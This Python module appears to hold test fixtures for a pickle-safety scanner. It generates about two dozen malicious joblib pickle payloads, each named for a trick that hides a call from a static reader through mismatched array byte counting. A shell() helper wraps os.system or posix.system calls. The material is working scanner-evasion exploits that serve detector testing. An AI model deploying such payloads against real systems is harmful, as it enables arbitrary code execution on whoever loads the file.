"""Hostile pickles that a reader and the loader would read differently: joblib takes bytes where a reader sees opcodes.

Each of these ran code in `joblib.load` while an earlier reader called it known. The trick is one: make joblib read, or
not read, a few bytes of an "array" that the reader does not know of, so that a bytes literal for the one is a call for
the other.
"""

import os
from collections.abc import Iterator

EMPTY, TUPLE1, NEWOBJ, BUILD, STOP = b")", b"\x85", b"\x81", b"b", b"."


def said(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def asked(module: str, name: str) -> bytes:
    return said(module) + said(name) + b"\x93"


WRAPPER = asked("joblib.numpy_pickle", "NumpyArrayWrapper")
ARRAY = asked("numpy", "ndarray")
ALIGNMENT = said("numpy_array_alignment_bytes")


def dtype(code: str, state: bytes = b"") -> bytes:
    return asked("numpy", "dtype") + said(code) + b"\x89\x88\x87R" + (state + BUILD if state else b"")


def state(flags: int, size: int, fields: bytes = b"NN") -> bytes:
    number = b"K" + bytes([size])
    return b"(K\x03" + said("|") + b"N" + fields + number + b"K\x01K" + bytes([flags]) + b"t"


def facts(count: int, *, extra: bytes = b"", kind: bytes = b"") -> bytes:
    parts = [
        *(
            said("subclass") + ARRAY,
            said("shape") + b"K" + bytes([count]) + TUPLE1,
            said("order") + said("C"),
        ),
        *(said("dtype") + (kind or dtype("i1")), said("allow_mmap") + b"\x89", extra),
    ]
    return b"}(" + b"".join(parts) + b"u"


def disagreements(call: bytes) -> Iterator[tuple[str, bytes]]:
    """Files that hide `call`, the opcodes of a call, from whoever counts the bytes of arrays wrongly."""
    # Two bytes of "array" for the loader are the head of a bytes literal for the reader, or the other way round.
    swallowed = b"C" + bytes([min(len(call) + 1, 255)]) + call + STOP + STOP
    # The loader takes 67, the opcode of a short bytes literal, for the length of a padding and skips as much.
    padded = b"C" + bytes([min(66 + len(call) + 1, 255)]) + b"x" * 66 + call + STOP + STOP
    nested = b"\x80\x04" + call + STOP
    plain = facts(2) + BUILD + swallowed
    instance = WRAPPER + EMPTY + NEWOBJ
    reconstructed = asked("copyreg", "_reconstructor") + b"(" + WRAPPER + asked("builtins", "object") + b"NtR"
    made = {
        "partial": asked("functools", "partial") + WRAPPER + TUPLE1 + b"R(" + ARRAY + EMPTY + said("C")
        + dtype("i1") + b"\x89NtR",
        "the trees' own maker": asked("sklearn.neighbors._ball_tree", "newObj") + WRAPPER + TUPLE1 + b"R",
        "a scalar that hands back": asked("numpy", "object_") + instance + TUPLE1 + b"R",
        "the identity": asked("sklearn.preprocessing._function_transformer", "_identity") + instance + TUPLE1
        + b"R",
        "the largest of one": asked("numpy", "max") + instance + TUPLE1 + b"R",
        "a reconstructor": reconstructed,
        "a reconstructor of another base": asked("copyreg", "_reconstructor") + asked("numpy", "object_") * 2
        + instance + b"\x87R",
        "another reading of its name": asked("joblib", "numpy_pickle.NumpyArrayWrapper") + EMPTY + NEWOBJ,
    }  # fmt: skip
    for way, maker in made.items():
        yield f"a wrapper made by {way}", b"\x80\x04" + maker + plain
    yield (
        "a wrapper out of an object array",
        b"\x80\x04" + instance + facts(1, kind=dtype("O8", state(63, 255)))
        + BUILD + b"\x80\x04" + instance + facts(0) + BUILD + STOP + plain,
    )  # fmt: skip
    yield (
        "the old class of arrays",
        b"\x80\x04" + asked("joblib.numpy_pickle", "NDArrayWrapper") + EMPTY + NEWOBJ + plain,
    )
    for name, flags in (("bytes", "V1"), ("a number", "i1")):
        kind = dtype(flags, state(1, 1))
        yield (
            f"{name} flagged as objects",
            b"\x80\x04" + instance + facts(len(nested), kind=kind) + BUILD + nested + STOP,
        )
    fields = b"(" + said("a") + b"t}" + said("a") + b"(" + dtype("O8", state(63, 255)) + b"K\x00ts"
    yield (
        "objects not flagged",
        b"\x80\x04"
        + instance
        + facts(1, kind=dtype("V8", state(16, 8, fields)))
        + BUILD
        + b"x" * 8
        + call
        + STOP,
    )
    shared = b"}\x94" + said("a") + b"(" + dtype("O8", state(63, 255)) + b"K\x00ts"
    kind = (
        dtype("V8", state(27, 8, b"(" + said("a") + b"t" + shared))
        + b"h\x00"
        + said("a")
        + b"("
        + dtype("i8")
    )
    yield (
        "fields changed after they were taken",
        b"\x80\x04" + instance + facts(0, kind=kind + b"K\x00ts0") + BUILD + nested + STOP,
    )
    yield (
        "a type given two states",
        b"\x80\x04"
        + instance
        + facts(1, kind=dtype("V1", state(1, 1)) + state(0, 1) + BUILD)
        + BUILD
        + nested
        + STOP,
    )
    shadow = said("safe_get_numpy_array_alignment_bytes") + asked("builtins", "float")
    yield "a fact in the place of a method", b"\x80\x04" + instance + facts(0, extra=shadow) + BUILD + padded
    yield (
        "an alignment from the constructor",
        b"\x80\x04"
        + WRAPPER
        + b"("
        + ARRAY
        + EMPTY
        + said("C")
        + dtype("i1")
        + b"\x89tR"
        + facts(0)
        + BUILD
        + padded,
    )
    aligned = facts(0, extra=ALIGNMENT + b"K\x10") + BUILD + b"\x00"
    yield (
        "a wrapper given two states",
        b"\x80\x04" + instance + b"\x94" + aligned + b"h\x00" + facts(0) + BUILD + padded,
    )
    nothing = asked("sklearn.preprocessing._function_transformer", "_identity") + b"N" + TUPLE1 + b"R"
    yield (
        "an alignment that is nothing when loaded",
        b"\x80\x04" + instance + facts(0, extra=ALIGNMENT + nothing) + BUILD + b"\x00" + call + STOP,
    )
    yield "a wrapper instantiated at once", b"(ijoblib.numpy_pickle\nNumpyArrayWrapper\n" + plain
    yield "a wrapper in a list", b"\x80\x04]" + instance + b"a0" + plain
    yield "a wrapper left behind", b"\x80\x04" + instance + b"0" + call + STOP
    yield (
        "a state that is a call",
        b"\x80\x04" + instance + asked("builtins", "dict") + EMPTY + b"R" + BUILD + call + STOP,
    )


def shell(command: str) -> bytes:
    """Opcodes that call a shell."""
    return asked("os" if os.name == "nt" else "posix", "system") + said(command) + TUPLE1 + b"R"
